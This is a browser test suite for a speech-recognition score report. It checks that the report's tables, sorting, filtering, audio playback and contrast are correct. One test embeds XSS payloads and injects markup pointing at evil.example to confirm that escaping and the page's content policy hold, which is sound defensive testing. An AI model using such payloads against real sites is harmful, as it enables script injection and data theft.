"""The report in headless Chromium: its numbers are those of scores.json; it sorts, filters, plays, asks for nothing.

Chromium is looked for in $MMS_RECIPES_CHROMIUM, where tools/fetch_chromium.py puts it, on the PATH and where playwright
keeps it; without one these tests are skipped.
"""

import json
import os
import random
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile

from mms_recipes import languages, manifest
from mms_recipes.manifest import Utterance
from mms_recipes.report import __main__ as command
from tests.unit import test_report_lid as lid
from tests.unit.evaluations import UTTERANCES, utterance, write_benchmark, write_run, write_runs

pytestmark = pytest.mark.slow

NAMES = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
HOSTILE = "<script>window.hacked=1</script><img/src=x&#32;onerror=window.hacked=1>"
NUM_LANGS, MOST_ROWS = 250, 110
# the contrast of an element's text with what lies behind it, as WCAG 2 counts it
CONTRAST = """element => {
  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const light = (colour) => parts(colour).slice(0, 3).map((c) => c / 255)
    .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
    .reduce((sum, c, n) => sum + c * [0.2126, 0.7152, 0.0722][n], 0);
  let behind = element;
  const paper = (e) => getComputedStyle(e).backgroundColor;
  while (behind.parentElement && parts(paper(behind))[3] === 0) behind = behind.parentElement;
  const [high, low] = [light(getComputedStyle(element).color), light(paper(behind))].sort((a, b) => b - a);
  return (high + 0.05) / (low + 0.05);
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """A headless Chromium; the tests are skipped where there is none."""
    playwright = pytest.importorskip(
        "playwright.sync_api", reason="no playwright (pip install '.[test]'): the report was NOT tested in a browser"
    )
    fetched = Path(sys.prefix) / "chromium"
    on_path = (shutil.which(name) for name in NAMES)
    candidates = [os.environ.get("MMS_RECIPES_CHROMIUM"), str(fetched / "chromium"), *on_path]
    with playwright.sync_playwright() as engine:
        own = engine.chromium.executable_path
        found = [path for path in [*candidates, own] if path and Path(path).is_file()]
        if not found:
            pytest.skip("no Chromium (python tools/fetch_chromium.py): the report was NOT tested in a browser")
        libraries = os.pathsep.join(filter(None, [os.environ.get("LD_LIBRARY_PATH"), str(fetched / "lib")]))
        environment = dict(os.environ) | ({"LD_LIBRARY_PATH": libraries} if found[0].startswith(str(fetched)) else {})
        chromium = engine.chromium.launch(executable_path=found[0], env=environment)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two runs, manifests with sound for the English utterances but one, and their page."""
    folder = tmp_path_factory.mktemp("page")
    runs = write_runs(folder)
    data = folder / "data"
    for lang in ("ara", "eng"):
        uids = [uid for of, uid, *_ in UTTERANCES if of == lang]
        rows = [Utterance(f"audio/{uid} é.wav", 32_000, "a |", "a", uid) for uid in uids]
        manifest.write_split(data / lang, "test", data / lang, rows)
    (data / "eng" / "audio").mkdir()
    tone = np.sin(np.arange(32_000) / 10).astype(np.float32) / 4
    for uid in ("e1", "e3"):
        soundfile.write(data / "eng" / "audio" / f"{uid} é.wav", tone, 16_000)
    arguments = [*map(str, runs), "--audio", str(data), "--out"]
    assert command.main([*arguments, str(folder / "report.html")]) == 0
    assert command.main([*arguments, str(folder / "embedded.html"), "--embed-audio", "1"]) == 0
    return folder


class Page:
    """A page open in a tab, with what it asked for and what it complained about."""

    def __init__(self, browser: Any, file: Path, **settings: Any) -> None:
        self.tab = browser.new_page(viewport={"width": 1300, "height": 1000}, **settings)
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.tab.on("request", lambda request: self.requests.append(request.url))
        self.tab.on("pageerror", lambda error: self.errors.append(str(error)))
        self.tab.on("console", lambda message: self.errors.append(message.text))
        self.tab.on("dialog", lambda dialog: self.errors.append(dialog.message))
        self.url = file.as_uri()
        self.tab.goto(self.url)

    def wait(self, expression: str) -> None:
        """Wait until an expression is true; playwright's own way to is what the policy of the page forbids."""
        for _ in range(100):
            if self.tab.evaluate(expression):
                return
            self.tab.wait_for_timeout(50)
        pytest.fail(f"after 5 s it is still not true that {expression}")

    def rows(self) -> list[str]:
        """Return the languages of the table that can be seen, in order."""
        found: list[str] = self.tab.eval_on_selector_all(
            "#scores tbody tr:not([hidden])", "r => r.map(x => x.dataset.lang)"
        )
        return found


@pytest.fixture
def page(browser: Any, folder: Path) -> Iterator[Page]:
    page = Page(browser, folder / "report.html")
    yield page
    page.tab.close()
    assert not page.errors


def documents(folder: Path) -> list[dict[str, Any]]:
    return [json.loads((folder / name / "scores.json").read_text()) for name in ("dense", "LSAH")]


def test_numbers_are_those_of_the_scores(page: Page, folder: Path) -> None:
    dense, lsah = documents(folder)
    cells = page.tab.eval_on_selector_all(
        "#scores tbody tr, #scores tfoot tr",
        "rows => rows.map(r => [r.dataset.lang, ...[...r.cells].slice(1).map("
        "c => [c.firstChild.textContent, Number(c.dataset.value), c.querySelector('small')?.textContent])])",
    )
    assert {row[0] for row in cells} == {*dense["languages"], "macro"}
    for lang, utterances, hours, *rates in cells:
        one, two = (document["languages"].get(lang, document["macro"]) for document in (dense, lsah))
        assert utterances[0] == f"{one['utterances']:,}" and hours[0] == f"{one['hours']:.2f}"
        expected = [
            (f"{row[metric]:.2f}", row[metric], f"[{row[f'{metric}_low']:.2f}, {row[f'{metric}_high']:.2f}]")
            for row in (one, two)
            for metric in ("wer", "cer")
        ]
        for (text, value, interval), (shown, number, bounds) in zip(rates[:4], expected, strict=True):
            assert (text, interval) == (shown, bounds) and value == pytest.approx(number, abs=1e-6)
        apart = [two[metric] - one[metric] for metric in ("wer", "cer")]
        assert [value for _, value, _ in rates[4:]] == pytest.approx(apart, abs=1e-6)
    shown = page.tab.eval_on_selector_all(".box dd", "all => all.map(d => d.firstChild.textContent)")
    macros = [f"{document['macro'][m]:.2f} %" for document in (dense, lsah) for m in ("headline", "wer", "cer")]
    assert shown == macros


def test_kinds_of_errors_are_those_of_the_scores(page: Page, folder: Path) -> None:
    english = page.tab.eval_on_selector_all(
        "#lang-eng .kinds tbody tr", "rows => rows.map(r => [...r.cells].slice(1).map(c => Number(c.textContent)))"
    )
    kinds = ("substitutions", "deletions", "insertions")
    rows = [document["languages"]["eng"] for document in documents(folder)]
    assert english == [
        [row[f"reference_{unit}s"], *(row[f"{unit}_{kind}"] for kind in kinds)]
        for unit in ("word", "character")
        for row in rows
    ]


def test_every_header_sorts_by_click_and_by_key(page: Page, folder: Path) -> None:
    dense, lsah = (document["languages"] for document in documents(folder))
    assert page.rows() == sorted(dense, key=lambda lang: -dense[lang]["headline"])  # worst first
    values: list[Any] = [
        lambda lang: lang,
        *([lambda lang: dense[lang]["utterances"], lambda lang: dense[lang]["hours"]]),
    ]
    values += [lambda lang: dense[lang]["headline"], lambda lang: lsah[lang]["headline"]]
    values += [lambda lang: round(lsah[lang]["headline"] - dense[lang]["headline"], 6)]
    values += [lambda lang, run=run, m=m: run[lang][m] for run in (dense, lsah) for m in ("wer", "cer")]
    values += [lambda lang, m=m: round(lsah[lang][m] - dense[lang][m], 6) for m in ("wer", "cer")]
    headers = page.tab.query_selector_all("#scores th[aria-sort]")
    assert len(headers) == len(values)
    for place, (header, value) in enumerate(zip(headers, values, strict=True)):
        button = header.query_selector("button")
        page.tab.evaluate("document.querySelectorAll('#scores th[aria-sort]').forEach(h => (h.ariaSort = 'none'))")
        button.click()
        shown = [value(lang) for lang in page.rows()]
        assert shown == sorted(shown, reverse=place > 0), place
        assert header.get_attribute("aria-sort") == ("ascending" if place == 0 else "descending")
        button.focus()
        page.tab.keyboard.press("Enter" if place % 2 else "Space")
        shown = [value(lang) for lang in page.rows()]
        assert shown == sorted(shown, reverse=place == 0), place
        sorted_by = page.tab.eval_on_selector_all("#scores th[aria-sort]", "all => all.map(h => h.ariaSort)")
        assert sorted_by.count("none") == len(headers) - 1


def test_filter(page: Page) -> None:
    page.tab.fill("#filter", "Jap, fra")
    page.wait("document.getElementById('found').textContent === '2 of 4'")
    assert sorted(page.rows()) == ["fra", "jpn"]
    assert page.tab.locator("details.lang:visible").count() == 2
    assert page.tab.locator(".overview .faint").count() == 2
    page.tab.fill("#filter", "")
    page.wait("document.getElementById('found').textContent === ''")
    assert len(page.rows()) == 4


def test_a_language_opens_its_section(page: Page) -> None:
    article = page.tab.locator("#lang-fra article").first
    assert not article.is_visible()
    page.tab.click("#scores a[href='#lang-fra']")
    article.wait_for(state="visible")
    page.tab.click("#close")
    assert not article.is_visible()
    page.tab.click("#scores a[href='#lang-fra']")
    article.wait_for(state="visible")


def test_columns_hold_reference_and_hypotheses(page: Page) -> None:
    page.tab.click("#open")
    for lang, uid, *texts in UTTERANCES:
        article = page.tab.locator(f"#lang-{lang} article", has=page.tab.locator(f"code:text-is('{uid}')"))
        columns = article.locator(".al > span").evaluate_all(
            "all => all.map(c => [...c.children].map(x => x.textContent))"
        )
        glue = "" if lang == "jpn" else " "
        shown = [glue.join(cell for cell in row if cell and cell != "∅") for row in zip(*columns, strict=True)]
        assert shown == texts
    widths = page.tab.locator("#lang-ara .al > span").first.evaluate("c => [...c.children].map(x => x.offsetTop)")
    assert widths == sorted(set(widths))  # below each other


def test_scripts_run_their_way(page: Page) -> None:
    page.tab.click("#open")
    for lang, direction in (("ara", "rtl"), ("eng", "ltr")):
        columns = page.tab.locator(f"#lang-{lang} .al").first
        assert columns.evaluate("c => getComputedStyle(c).direction") == direction
        lefts = columns.locator("> span").evaluate_all("all => all.map(c => c.getBoundingClientRect().left)")
        assert lefts == sorted(lefts, reverse=direction == "rtl")


def test_audio_plays_where_it_is_there(page: Page, folder: Path) -> None:
    page.tab.click("#open")
    buttons = page.tab.locator("button.play")
    assert sorted(buttons.evaluate_all("all => all.map(b => b.ariaLabel)")) == ["play e1", "play e3"]
    assert page.requests == [page.url]
    page.tab.click("[aria-label='play e3']")
    page.wait("document.querySelector('#player audio').currentTime > 0.1")
    assert set(page.requests) == {page.url, (folder / "data" / "eng" / "audio" / "e3 é.wav").as_uri()}
    assert page.tab.inner_text("#player code") == "e3"
    page.tab.click("[aria-label='play e3']")
    assert page.tab.evaluate("document.querySelector('#player audio').paused")


def test_embedded_audio_plays_without_a_request(browser: Any, folder: Path) -> None:
    page = Page(browser, folder / "embedded.html")
    page.tab.click("#open")
    page.tab.click("button.play[data-src^='data:']")
    page.wait("document.querySelector('#player audio').currentTime > 0.1")
    assert [url for url in page.requests if not url.startswith("data:")] == [page.url]
    assert page.tab.locator("button.play[data-src^='./']").count() == 1
    page.tab.close()
    assert not page.errors


def test_utterances_are_ordered_by_confidence(browser: Any, tmp_path: Path) -> None:
    sure = {"u1": ([0.9, 0.9], [0.3, 0.9]), "u2": ([0.4, 0.9], [0.9, 0.8]), "u3": ([0.6, 0.9], [0.5, 0.9])}
    texts = {"u1": "a dig", "u2": "a dog", "u3": "a dig"}
    silent = utterance("eng", "u4", "a dog", "", sure=[])
    runs = [
        write_run(
            tmp_path / name,
            [*(utterance("eng", uid, "a dog", texts[uid], sure=of[n]) for uid, of in sure.items()), silent],
        )
        for n, name in enumerate(("dense", "LSAH"))
    ]
    assert command.main([*map(str, runs), "--out", str(tmp_path / "report.html")]) == 0
    page = Page(browser, tmp_path / "report.html")
    page.tab.click("#open")
    shown = "#lang-eng article header code"
    for label, expected in (
        ("worst first", ["u4", "u1", "u3", "u2"]),
        ("least sure first: dense", ["u2", "u3", "u1", "u4"]),
        ("least sure first: LSAH", ["u1", "u3", "u2", "u4"]),
        ("least sure first: dense", ["u2", "u3", "u1", "u4"]),
        ("worst first", ["u4", "u1", "u3", "u2"]),
    ):
        page.tab.select_option("#lang-eng select.order", label=label)
        assert page.tab.eval_on_selector_all(shown, "all => all.map(c => c.textContent)") == expected, label
    underlined = page.tab.eval_on_selector_all(
        "#lang-eng .al i[title]",
        "all => all.map(i => [parseFloat(i.title), getComputedStyle(i).backgroundImage !== 'none'])",
    )
    assert len(underlined) == 12 and all(marked == (sure < 0.8) for sure, marked in underlined)
    page.tab.close()
    assert not page.errors


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_papers_numbers_stand_beside_ours(browser: Any, tmp_path: Path, scheme: str) -> None:
    run = write_benchmark(tmp_path / "run")
    document = json.loads((run / "scores.json").read_text())
    assert command.main([str(run)]) == 0
    page = Page(browser, run / "report.html", color_scheme=scheme)
    known = {row["lang"]: row["rate"] for row in document["benchmark"]["paper"] if row["system"] == "MMS FL-102 + LM"}
    cells = page.tab.eval_on_selector_all(
        "#scores tbody tr", "rows => rows.map(r => [r.dataset.lang, r.querySelector('td.paper').textContent])"
    )
    assert dict(cells) == {"eng": f"{known['eng']}", "fra": "", "jpn": f"{known['jpn']}"}
    button = page.tab.locator("#scores th[data-column='5'] button")
    for expected in (["jpn", "eng", "fra"], ["eng", "jpn", "fra"]):  # what is not known comes last, either way
        button.click()
        assert page.rows() == expected
    texts = ".benchmark h2, .benchmark p, .box.paper td, .box.paper p, .box.paper h2, #scores .paper, .key .paper"
    contrasts = page.tab.eval_on_selector_all(texts, f"all => all.map(e => [({CONTRAST})(e), e.textContent])")
    assert len(contrasts) > 15 and min(contrasts)[0] >= 4.5, min(contrasts)
    page.tab.set_viewport_size({"width": 390, "height": 800})
    page.tab.click("#open")
    assert page.tab.evaluate("document.documentElement.scrollWidth") == 390  # nothing sticks out of a phone
    assert page.requests == [page.url]
    page.tab.close()
    assert not page.errors


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_telephone_shows_all_or_says_what_is_beyond(browser: Any, folder: Path, scheme: str) -> None:
    """At 390 px the axis fits, nothing but boxes that scroll is wider than the screen, and they say so."""
    page = Page(browser, folder / "report.html", color_scheme=scheme)
    page.tab.set_viewport_size({"width": 390, "height": 844})
    page.tab.click("#open")
    page.wait("document.querySelectorAll('.beyond').length > 1")
    assert page.tab.evaluate("document.documentElement.scrollWidth") == 390
    ends = page.tab.eval_on_selector_all(".overview text", "t => t.map(x => x.getBoundingClientRect().right)")
    assert ends and max(ends) <= 390
    boxes = page.tab.eval_on_selector_all(
        ".scroll, .wide",
        "b => b.map(x => [x.scrollWidth > x.clientWidth + 2, x.classList.contains('beyond'),"
        " getComputedStyle(x, '::before').content.includes('right')])",
    )
    assert all(wider == marked == said for wider, marked, said in boxes) and any(wider for wider, *_ in boxes)
    page.tab.evaluate("{ const box = document.querySelector('.beyond'); box.scrollLeft = box.scrollWidth; }")
    page.wait("!document.querySelector('#scores').parentElement.classList.contains('beyond')")
    page.tab.set_viewport_size({"width": 1300, "height": 844})
    page.wait("!document.querySelector('.beyond')")
    page.tab.close()
    assert not page.errors


def test_nothing_is_asked_for(page: Page) -> None:
    page.tab.click("#open")
    for header in page.tab.query_selector_all("#scores th[aria-sort] button"):
        header.click()
    page.tab.fill("#filter", "e")
    page.tab.emulate_media(media="print")
    page.tab.wait_for_timeout(300)
    assert page.requests == [page.url]


def test_hostile_texts_are_inert(browser: Any, tmp_path: Path) -> None:
    scores = [utterance("eng", f"e{HOSTILE}", f"the {HOSTILE} cat", HOSTILE), utterance("fra", "f1", "un", "un")]
    run = write_run(tmp_path / "run", scores, name=HOSTILE, normalization=HOSTILE, checkpoint=HOSTILE)
    assert command.main([str(run)]) == 0
    page = Page(browser, run / "report.html")
    page.tab.click("#open")
    page.tab.wait_for_timeout(200)
    assert page.tab.evaluate("window.hacked") is None
    assert page.tab.locator("img").count() == 0 and page.tab.locator("script").count() == 1
    assert page.tab.locator("article .al i.d").count() == 2 and HOSTILE in page.tab.inner_text("#lang-eng .al")
    assert page.requests == [page.url]
    # were one of them let through all the same, the policy of the page would still stop it
    injected = "<img src=x onerror='window.hacked=1'><base href=https://evil.example/><style>h1 { color: red }</style>"
    page.tab.evaluate(f'document.body.insertAdjacentHTML("beforeend", "{injected}")')
    page.tab.evaluate("""() => { const form = document.createElement("form");
      form.action = "https://evil.example/"; document.body.append(form); form.submit(); }""")
    page.tab.wait_for_timeout(200)
    assert page.tab.evaluate("window.hacked") is None and page.tab.evaluate("document.baseURI") == page.url
    assert page.tab.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(255, 0, 0)"
    assert page.tab.url == page.url and not any("evil" in url for url in page.requests)
    page.tab.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_texts_stand_out(browser: Any, folder: Path, scheme: str) -> None:
    page = Page(browser, folder / "report.html", color_scheme=scheme)
    page.tab.click("#open")
    chosen = "h1, dt, dd, small, a, summary span, th, td, .key span, .al i, .al b, .who b, header span, button, .pair"
    contrasts = page.tab.eval_on_selector_all(chosen, f"all => all.map(e => [({CONTRAST})(e), e.textContent])")
    assert len(contrasts) > 200
    assert min(contrasts)[0] >= 4.5, min(contrasts)
    dark = page.tab.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
    assert dark == (scheme == "dark")
    page.tab.close()


def test_hundreds_of_languages(browser: Any, tmp_path: Path) -> None:
    """The first are shown, the others are found, sorted and printed."""
    rng = random.Random(0)
    langs = languages.resolve("asr_l1107")[:NUM_LANGS]
    scores = [
        utterance(lang, f"{lang}_{number}", "a b c d", " ".join(rng.choice("abcd") for _ in range(4)))
        for lang in langs
        for number in range(2)
    ]
    run = write_run(tmp_path / "run", scores)
    assert command.main([str(run)]) == 0
    rows = json.loads((run / "scores.json").read_text())["languages"]
    page = Page(browser, run / "report.html")
    assert len(page.rows()) == MOST_ROWS and page.tab.locator(".overview circle").count() == NUM_LANGS
    page.tab.click("#scores th[data-column='0'] button")
    assert page.rows() == sorted(langs)[:MOST_ROWS]
    last = max(langs)
    page.tab.fill("#filter", last)
    page.wait("document.getElementById('found').textContent !== ''")
    assert last in page.rows() and len(page.rows()) < 5
    page.tab.click(f"#lang-{last} summary")
    article = page.tab.locator(f"#lang-{last} article").first
    article.wait_for(state="visible")
    assert page.tab.locator("article").count() == 2 - (rows[last]["wer"] == 0)
    page.tab.fill("#filter", "")
    page.wait("document.getElementById('found').textContent === ''")
    page.tab.click("#more")
    assert page.rows() == sorted(langs)
    page.tab.close()
    assert not page.errors


# ---- language identification


@pytest.fixture(scope="module")
def identified(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two identifications of two corpora, each with its page, and their page together."""
    folder = tmp_path_factory.mktemp("identified")
    runs = lid.write_two(folder, "one", "two")
    assert command.main([*map(str, runs), "--out", str(folder / "report.html")]) == 0
    return folder


PAGES = ["small/report.html", "report.html"]


@pytest.mark.parametrize("file", PAGES)
def test_accuracies_are_those_of_the_scores(browser: Any, identified: Path, file: str) -> None:
    names = ["small"] if "/" in file else ["small", "large"]
    documents = [json.loads((identified / name / "scores.json").read_text()) for name in names]
    page = Page(browser, identified / file)
    cells = page.tab.eval_on_selector_all(
        "#scores tbody tr, #scores tfoot tr",
        "rows => rows.map(r => [r.dataset.lang, ...[...r.cells].slice(1).map(c => Number(c.dataset.value))])",
    )
    assert [row[0] for row in cells] == ["eng", "fra", "macro", "micro"]  # the worst first
    for lang, utterances, _, *rates in cells:
        rows = [document["languages"].get(lang, document.get(lang)) for document in documents]
        expected = []
        for row, document in zip(rows, documents, strict=True):
            expected += [row["top1"]] + ([row["top3"], row["top5"]] if len(names) == 1 else [])
            of = [scored["languages"].get(lang, scored.get(lang)) for scored in document["corpora"].values()]
            expected += [one["top1"] for one in of]
        expected += [row["top1"] - rows[0]["top1"] for row in rows[1:]]
        assert utterances == rows[0]["utterances"] and rates[: len(expected)] == pytest.approx(expected, abs=1e-6)
    boxes = page.tab.eval_on_selector_all(".box", "all => all.map(b => b.querySelector('dd').firstChild.textContent)")
    assert boxes == [f"{document['macro']['top1']:.2f} %" for document in documents]
    page.tab.close()
    assert not page.errors


@pytest.mark.parametrize("file", PAGES)
def test_identification_sorts_filters_and_opens(browser: Any, identified: Path, file: str) -> None:
    page = Page(browser, identified / file)
    headers = page.tab.query_selector_all("#scores th[aria-sort]")
    assert len(headers) == page.tab.evaluate("document.querySelector('#scores tbody tr').cells.length")
    for header in headers:
        place = int(header.get_attribute("data-column"))
        page.tab.evaluate("document.querySelectorAll('#scores th[aria-sort]').forEach(h => (h.ariaSort = 'none'))")
        for _ in range(2):
            header.query_selector("button").click()
            shown = page.tab.eval_on_selector_all(
                "#scores tbody tr", f"all => all.map(r => r.cells[{place}].dataset.value)"
            )
            values = shown if place == 0 else [float(value) for value in shown]
            order = header.get_attribute("aria-sort")
            assert values == sorted(values, reverse=order == "descending"), (place, order)
    first = page.tab.locator("#scores th[data-column='3']")
    first.locator("button").click()
    page.tab.evaluate("document.querySelectorAll('#scores th[aria-sort]').forEach(h => (h.ariaSort = 'none'))")
    first.locator("button").click()
    assert first.get_attribute("aria-sort") == "ascending"  # of accuracies the worst is the lowest
    page.tab.fill("#filter", "engl")
    page.wait("document.getElementById('found').textContent === '1 of 2'")
    assert page.rows() == ["eng"] and page.tab.locator("details.lang:visible").count() == 1
    assert page.tab.locator(".overview .faint").count() == 1
    page.tab.fill("#filter", "")
    page.wait("document.getElementById('found').textContent === ''")
    article = page.tab.locator("#lang-eng article").first
    assert not article.is_visible()
    page.tab.click("#scores a[href='#lang-eng']")
    article.wait_for(state="visible")
    page.tab.emulate_media(media="print")
    assert page.requests[0] == page.url and all(url.startswith("data:image/png") for url in page.requests[1:])
    page.tab.close()
    assert not page.errors


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("file", PAGES)
def test_identification_is_readable(browser: Any, identified: Path, file: str, scheme: str) -> None:
    page = Page(browser, identified / file, color_scheme=scheme)
    page.tab.click("#open")
    chosen = "h1, h2, h4, p, dt, dd, small, a, summary span, th, td, .key span, header span, button, .answer, .answer b"
    contrasts = page.tab.eval_on_selector_all(chosen, f"all => all.map(e => [({CONTRAST})(e), e.textContent])")
    assert len(contrasts) > 100
    assert min(contrasts)[0] >= 4.5, min(contrasts)
    dark = page.tab.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
    assert dark == (scheme == "dark")
    assert page.tab.evaluate("[...document.images].every(i => i.complete && i.naturalWidth > 300)")
    for width in (390, 1300):
        page.tab.set_viewport_size({"width": width, "height": 800})
        page.tab.click("summary >> nth=0")  # all settings, a table too
        assert page.tab.evaluate("document.documentElement.scrollWidth") == width  # nothing sticks out of a phone
    page.tab.close()
    assert not page.errors
